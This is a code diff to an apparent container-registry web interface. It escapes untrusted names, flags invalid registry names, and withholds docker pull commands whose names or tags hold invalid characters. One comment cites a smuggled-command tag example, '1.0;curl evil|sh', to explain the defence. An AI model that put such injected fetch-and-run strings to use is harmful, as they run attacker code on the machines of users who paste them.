@@ -6,8 +6,10 @@
 import { copyable, formatBytes, formatTime, h, shortAddress, shortHash } from './dom';
 import type { ArtifactVersionView, ArtifactView, ImageSummary, SpaceDetail, SpaceSummary, TagContent, TagView } from './queries';
 import { sizeText } from './sizes';
+import { freeText, isSpaceName, nameText, pullCommand } from './untrusted-text';
 
-const nameOf = (item: { name: string | null; nameHex: string }) => item.name ?? `${item.nameHex} (not text)`;
+// Names are shown through nameText (untrusted-text.ts): a lookalike or a bidi trick shows as escapes.
+const nameOf = (item: { name: string | null; nameHex: string }) => (item.name === null ? `${item.nameHex} (not text)` : nameText(item.name));
 
 export function spaceList(title: string, spaces: SpaceSummary[], empty: string, open: (id: string) => void): HTMLElement {
   const heading = h('h3', {}, title);
@@ -16,7 +18,7 @@ export function spaceList(title: string, spaces: SpaceSummary[], empty: string, 
     const button = h('button', { type: 'button', class: 'link' }, nameOf(space));
     button.addEventListener('click', () => open(space.id));
     const counts = `${space.memberCount} member${space.memberCount === 1 ? '' : 's'}, ${space.imageCount} image${space.imageCount === 1 ? '' : 's'}, ${space.tagCount} tag${space.tagCount === 1 ? '' : 's'}`;
-    return h('li', { 'data-space': space.name ?? space.nameHex, 'data-space-id': space.id }, button, h('span', { class: 'hint' }, ` — ${counts}; owner ${shortAddress(space.owner.id)}`), shadowMark(space));
+    return h('li', { 'data-space': space.name ?? space.nameHex, 'data-space-id': space.id }, button, invalidNameMark(space), h('span', { class: 'hint' }, ` — ${counts}; owner ${shortAddress(space.owner.id)}`), shadowMark(space));
   });
   return h('div', { class: 'space-list' }, heading, h('ul', {}, ...items));
 }
@@ -29,9 +31,14 @@ export function imageList(title: string, images: ImageSummary[], empty: string, 
     const name = `${nameOf(image.space)}/${nameOf(image)}`;
     const button = h('button', { type: 'button', class: 'link' }, name);
     button.addEventListener('click', () => open(image.space.id));
-    return h('li', { 'data-image': name }, button, h('span', { class: 'hint' }, ` — ${image.tagCount} tag${image.tagCount === 1 ? '' : 's'}, updated ${formatTime(image.updatedAt)}`), shadowMark(image.space));
+    return h('li', { 'data-image': name }, button, invalidNameMark(image.space), h('span', { class: 'hint' }, ` — ${image.tagCount} tag${image.tagCount === 1 ? '' : 's'}, updated ${formatTime(image.updatedAt)}`), shadowMark(image.space));
   });
   return h('div', { class: 'space-list' }, heading, h('ul', {}, ...items));
+}
+
+/** After a space whose name no registry client can use: it can only imitate another name. */
+function invalidNameMark(space: SpaceSummary): HTMLElement | null {
+  return isSpaceName(space.name) ? null : h('span', { class: 'invalid-mark' }, ' (not a valid registry name: nothing can be pulled from it)');
 }
 
 /** ` (shadow of space N)` after a shadow in a list; nothing for an owner. */
@@ -48,6 +55,14 @@ function nameNotice(space: SpaceSummary, name: string, registry: string): HTMLEl
       `This space is a shadow: the name "${name}" belongs to space ${space.shadowOf.id} (owner ${space.shadowOf.owner.id}), which claimed it first. `,
       `docker pull ${registry}/${name}/… pulls that space's images, never these, so no pull commands are shown here.`,
       space.takesNameWrites ? ' It sorts first in chain storage, so the chain records the name\'s writes in it: gateways refuse pushes to the name.' : '',
+    );
+  }
+  if (!isSpaceName(space.name)) {
+    return h(
+      'p',
+      { class: 'warning', role: 'note', 'data-notice': 'invalid-name' },
+      `The name "${name}" is not a valid registry name (characters outside a-z, 0-9, ".", "_" and "-" are shown as \\u escapes), so no docker client can pull from this space and no pull commands are shown. `,
+      'A name like this can only imitate another space\'s name: check the space id and owner.',
     );
   }
   if (space.nameTakenBy) {
@@ -76,8 +91,8 @@ export function spaceDetail(space: SpaceDetail, registry: string, me: string | u
     ...space.members.map((m) => h('li', { 'data-member': m.account.id }, h('code', { title: m.account.id }, m.account.id), m.isOwner ? ' (owner)' : '', m.account.id === me ? ' — you' : '')),
   );
   const images = space.images.length
-    ? space.images.map((image) => imageSection(registry, name, image, !shadow, contents.tags))
-    : [h('p', { class: 'hint' }, shadow ? 'No images.' : `No images yet. Push one with: docker push ${registry}/${name}/<image>:<tag>`)];
+    ? space.images.map((image) => imageSection(registry, space, image, !shadow, contents.tags))
+    : [h('p', { class: 'hint' }, shadow || !isSpaceName(space.name) ? 'No images.' : `No images yet. Push one with: docker push ${registry}/${name}/<image>:<tag>`)];
   return h(
     'article',
     { class: 'space', 'aria-labelledby': `space-${space.id}`, 'data-space-id': space.id },
@@ -99,50 +114,58 @@ export function spaceDetail(space: SpaceDetail, registry: string, me: string | u
 function artifactSection(artifact: ArtifactView): HTMLElement {
   const name = nameOf(artifact);
   const labels = artifact.labels.length
-    ? h('ul', { class: 'labels', 'aria-label': `Labels of ${name}` }, ...artifact.labels.map((label) => h('li', { 'data-label': label.key }, h('code', {}, `${label.key}=${label.value}`))))
+    ? h('ul', { class: 'labels', 'aria-label': `Labels of ${name}` }, ...artifact.labels.map((label) => h('li', { 'data-label': label.key }, h('code', {}, freeText(`${label.key}=${label.value}`)))))
     : h('p', { class: 'hint' }, 'No labels.');
   return h(
     'section',
     { class: 'artifact', 'data-artifact': name },
     h('h5', {}, name),
-    h('p', { class: 'hint' }, `${artifact.kinds.join(', ')} — ${artifact.versionCount} version${artifact.versionCount === 1 ? '' : 's'}`),
-    artifact.description ? h('p', {}, artifact.description) : null,
+    h('p', { class: 'hint' }, `${artifact.kinds.map(nameText).join(', ')} — ${artifact.versionCount} version${artifact.versionCount === 1 ? '' : 's'}`),
+    artifact.description ? h('p', {}, freeText(artifact.description)) : null,
     labels,
     h('ol', { class: 'versions', 'aria-label': `Versions of ${name}` }, ...artifact.versions.map(versionItem)),
   );
 }
 
 function versionItem(version: ArtifactVersionView): HTMLElement {
-  const files = version.files.map((file) => file.title ?? 'untitled').join(', ');
+  const files = freeText(version.files.map((file) => file.title ?? 'untitled').join(', '));
   const size = version.totalSize === null ? '' : `, ${formatBytes(Number(version.totalSize))}`;
   return h(
     'li',
     { 'data-version': version.version ?? version.id },
-    h('code', {}, version.version ?? '(not text)'),
+    h('code', {}, version.version === null ? '(not text)' : nameText(version.version)),
     version.prerelease ? ' (pre-release)' : '',
     ` — ${files || 'no files'}${size}, `,
-    h('code', { title: version.digest }, shortHash(version.digest)),
+    h('code', { title: nameText(version.digest) }, shortHash(nameText(version.digest))),
     version.moved
-      ? h('span', { class: 'moved-mark' }, ` moved ${version.moveCount}× after it was published (first ${shortHash(version.originalDigest)}, last on ${formatTime(version.lastMovedAt)})`)
+      ? h('span', { class: 'moved-mark' }, ` moved ${version.moveCount}× after it was published (first ${shortHash(version.originalDigest && nameText(version.originalDigest))}, last on ${formatTime(version.lastMovedAt)})`)
       : null,
   );
 }
 
-function imageSection(registry: string, space: string, image: SpaceDetail['images'][number], pullable: boolean, contents: Map<string, TagContent>): HTMLElement {
+function imageSection(registry: string, space: SpaceDetail, image: SpaceDetail['images'][number], pullable: boolean, contents: Map<string, TagContent>): HTMLElement {
   const name = nameOf(image);
   return h(
     'section',
     { class: 'image', 'data-image': name },
-    h('h5', {}, `${space}/${name}`),
-    ...image.tags.map((tag) => tagCard(registry, space, name, tag, pullable, contents.get(tag.id))),
+    h('h5', {}, `${nameOf(space)}/${name}`),
+    ...image.tags.map((tag) => tagCard(registry, space, image, tag, pullable, contents.get(tag.id))),
   );
 }
 
-/** `pullable`: false for a shadow's tags, whose pull commands would pull the name owner's images. */
-function tagCard(registry: string, space: string, image: string, tag: TagView, pullable: boolean, content: TagContent | undefined): HTMLElement {
-  const tagName = tag.name ?? 'latest';
-  const platforms = content?.platforms.length ? [h('dt', {}, 'Platforms'), h('dd', { class: 'platforms' }, content.platforms.join(', '))] : [];
-  const kind = content?.artifactType ? [h('dt', {}, 'Artifact'), h('dd', { class: 'artifact-type' }, h('code', {}, content.artifactType))] : [];
+/**
+ * `pullable`: false for a shadow's tags, whose pull commands would pull the name owner's images.
+ * The commands are built from the raw names and offered only when each is valid (pullCommand):
+ * a tag like "1.0;curl evil|sh" gets no line to paste into a shell.
+ */
+function tagCard(registry: string, space: SpaceDetail, image: SpaceDetail['images'][number], tag: TagView, pullable: boolean, content: TagContent | undefined): HTMLElement {
+  const rawTag = tag.name ?? 'latest';
+  const tagName = nameText(rawTag);
+  const shown = `${nameOf(space)}/${nameOf(image)}`;
+  const byTag = pullable ? pullCommand(registry, space.name, image.name, { tag: rawTag }) : undefined;
+  const byDigest = pullable && tag.digest ? pullCommand(registry, space.name, image.name, { digest: tag.digest }) : undefined;
+  const platforms = content?.platforms.length ? [h('dt', {}, 'Platforms'), h('dd', { class: 'platforms' }, content.platforms.map(nameText).join(', '))] : [];
+  const kind = content?.artifactType ? [h('dt', {}, 'Artifact'), h('dd', { class: 'artifact-type' }, h('code', {}, nameText(content.artifactType)))] : [];
   const history = h(
     'details',
     {},
@@ -151,21 +174,21 @@ function tagCard(registry: string, space: string, image: string, tag: TagView, p
       'ol',
       {},
       ...tag.history.map((u) =>
-        h('li', {}, `${formatTime(u.timestamp)}, block #${u.blockNumber}: `, h('code', { title: u.digest ?? '' }, shortHash(u.digest)), u.previousDigest ? h('span', {}, ' (was ', h('code', { title: u.previousDigest }, shortHash(u.previousDigest)), ')') : ' (new tag)', u.proxy ? ` — pushed through ${shortAddress(u.proxy)}` : ''),
+        h('li', {}, `${formatTime(u.timestamp)}, block #${u.blockNumber}: `, h('code', { title: nameText(u.digest ?? '') }, shortHash(u.digest && nameText(u.digest))), u.previousDigest ? h('span', {}, ' (was ', h('code', { title: nameText(u.previousDigest) }, shortHash(nameText(u.previousDigest))), ')') : ' (new tag)', u.proxy ? ` — pushed through ${shortAddress(u.proxy)}` : ''),
       ),
     ),
   );
   return h(
     'div',
-    { class: 'tag', 'data-tag': tagName },
+    { class: 'tag', 'data-tag': rawTag },
     h('h6', {}, `:${tagName}`),
     h(
       'dl',
       { class: 'facts' },
       h('dt', {}, 'Digest'),
-      h('dd', {}, h('code', { class: 'wrap' }, tag.digest ?? '—')),
+      h('dd', {}, h('code', { class: 'wrap' }, tag.digest === null ? '—' : nameText(tag.digest))),
       h('dt', {}, 'CID'),
-      h('dd', {}, h('code', { class: 'wrap' }, tag.manifest?.cid ?? '—')),
+      h('dd', {}, h('code', { class: 'wrap' }, tag.manifest?.cid ? nameText(tag.manifest.cid) : '—')),
       h('dt', {}, 'Size'),
       h('dd', { class: 'size' }, sizeText(content)),
       ...platforms,
@@ -173,8 +196,9 @@ function tagCard(registry: string, space: string, image: string, tag: TagView, p
       h('dt', {}, 'Updated'),
       h('dd', {}, formatTime(tag.updatedAt)),
     ),
-    pullable ? copyable(`docker pull ${registry}/${space}/${image}:${tagName}`, `docker pull command for ${space}/${image}:${tagName}`) : null,
-    pullable && tag.digest ? copyable(`docker pull ${registry}/${space}/${image}@${tag.digest}`, `docker pull command for ${space}/${image} by digest`) : null,
+    byTag ? copyable(byTag, `docker pull command for ${shown}:${tagName}`) : null,
+    byDigest ? copyable(byDigest, `docker pull command for ${shown} by digest`) : null,
+    pullable && !byTag ? h('p', { class: 'hint', 'data-notice': 'no-pull' }, byDigest ? 'No pull command by tag: the tag holds characters no tag may have. Pull by digest instead.' : 'No pull command: this reference holds characters no registry name or tag may have.') : null,
     history,
   );
 }
